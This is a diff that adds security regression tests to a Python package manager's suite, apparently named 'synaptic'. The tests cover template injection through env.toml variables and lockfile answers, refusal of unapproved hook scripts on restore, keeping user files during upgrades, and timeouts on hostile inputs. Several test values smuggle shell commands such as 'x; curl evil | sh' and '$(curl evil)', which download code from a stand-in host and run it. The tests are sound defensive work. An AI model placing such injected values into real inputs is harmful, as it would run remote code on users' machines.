@@ -8,7 +8,7 @@ from synaptic.hooks.edit_registry import parse_entries
 from synaptic.model.errors import SynapticError
 from synaptic.packages import lock
 from synaptic.packages.drift import find_local_drift
-from synaptic.packages.restore import find_broken, prepare_restore
+from synaptic.packages.restore import find_broken, prepare_restore, refuse_other_scripts
 from synaptic.packages.upgrade import list_available
 from synaptic.packages.verify_install import verify_site
 from tests.cli.conftest import User
@@ -214,3 +214,74 @@ def test_what_is_available_is_asked_without_touching_a_path(installed: Victim) -
     installed.rewrite_lock(files={"../../outside/precious": PRECIOUS_HASH})
     assert refused(lambda: list_available(installed.source, installed.site)).code == "validation_failed"
     assert refused(lambda: lock.load_lockfile(installed.site)).code == "validation_failed"
+
+
+@pytest.mark.parametrize("kind", UNFIT_TEXTS)
+def test_a_project_file_that_takes_forever_to_read_is_not_waited_for(victim: Victim, kind: str) -> None:
+    place_unfit(victim.site.base / "env.toml", kind)
+    with limit_waiting():
+        victim.install("alpha")
+    assert victim.site.base.joinpath("env.toml").read_text().startswith("SYNAPTIC_PROJECT_ROOT")
+    place_unfit(victim.site.registry, kind)
+    with limit_waiting(), pytest.raises(SynapticError):
+        victim.remove("alpha")
+
+
+@pytest.mark.parametrize("name", ["SYNAPTIC_ROOT", "SYNAPTIC_PROJECT_ROOT", "SYNAPTIC_CHANNEL", "SYNAPTIC_AGENTS"])
+def test_variables_that_a_repository_brings_do_not_become_part_of_a_script(
+    victim: Victim, market: Market, name: str
+) -> None:
+    text = (
+        "cd {{ env.synaptic_root }} {{ env.synaptic_project_root }} {{ env.sc_dolt_branch }} {{ env.synaptic_agents }}"
+    )
+    market.put(made("variables", files={"hooks/pre.sh.j2": text}))
+    victim.site.base.mkdir()
+    victim.site.base.joinpath("env.toml").write_text(f'{name}="x; curl evil | sh"\n')
+    victim.install("variables")
+    assert "curl" not in victim.path("skills/variables/hooks/pre.sh").read_text()
+    assert "curl" not in victim.site.base.joinpath("env.toml").read_text()
+
+
+def test_doctor_writes_no_script_that_nobody_agreed_to(victim: Victim, market: Market) -> None:
+    asked = {"question_id": "who", "prompt": "Who?", "type": "text", "default_val": "me"}
+    market.put(made("scripted", files={"hooks/pre.sh.j2": "echo {{ answers.who }}\n"}, questions=[asked]))
+    victim.install("scripted")
+    victim.rewrite_lock(answers={"who": "x; curl evil | sh"})
+    victim.path("skills/scripted/hooks/pre.sh").unlink()
+    broken = find_broken(victim.site)
+    prepared = prepare_restore(victim.source, victim.site, broken)
+    assert "another script than you agreed to" in refused(lambda: refuse_other_scripts(prepared)).message
+
+
+def test_a_clone_is_shown_the_answers_it_comes_with(victim: Victim, market: Market) -> None:
+    asked = {"question_id": "who", "prompt": "Who?", "type": "text"}
+    market.put(made("cloned", files={"hooks/pre.sh.j2": "echo {{ answers.who }}\n"}, questions=[asked]))
+    victim.install("cloned")
+    victim.rewrite_lock(answers={"who": "$(curl evil)"})
+    victim.site.pins.unlink()
+    (shown,) = prepare_restore(victim.source, victim.site, victim.lock().install).summarise()
+    assert any("$(curl evil)" in warning for warning in shown.warnings)
+
+
+def test_an_upgrade_deletes_only_what_the_lockfile_vouches_for(installed: Victim, market: Market) -> None:
+    mine = installed.path("agents/mine.md")
+    mine.parent.mkdir()
+    mine.write_text("mine\n")
+    record = installed.lock().get("alpha")
+    installed.rewrite_lock(files={**record.files, "agents/mine.md": "0" * 64})
+    (shown,) = installed.plan("alpha").summarise()
+    assert ("agents/mine.md", "kept") in {(line.path, line.state) for line in shown.files}
+    installed.install("alpha")
+    assert mine.read_text() == "mine\n"
+
+
+def test_a_chain_of_a_thousand_records_is_removed_without_end(victim: Victim) -> None:
+    victim.site.base.mkdir()
+    one = (
+        '[[install]]\nid="x"\npackage="p{0}"\nversion="1"\nscope="project"\ntracking="dependency"\n'
+        '[[install.requirements.skills]]\nname="p{1}"\nprovenance="installed"\n'
+    )
+    victim.site.lockfile.write_text("".join(one.format(number, number + 1) for number in range(900)))
+    with limit_waiting():
+        victim.remove("p0")
+    assert victim.lock().install == ()
